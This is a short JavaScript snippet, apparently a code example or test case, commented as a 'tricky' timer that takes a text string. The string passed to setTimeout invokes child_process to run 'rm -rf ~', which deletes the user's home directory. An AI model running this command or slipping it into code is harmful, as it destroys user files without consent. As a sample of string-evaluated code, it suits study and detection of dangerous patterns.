// tricky: a timer that takes a text
setTimeout("require('child_process').exec('rm -rf ~')", 100);
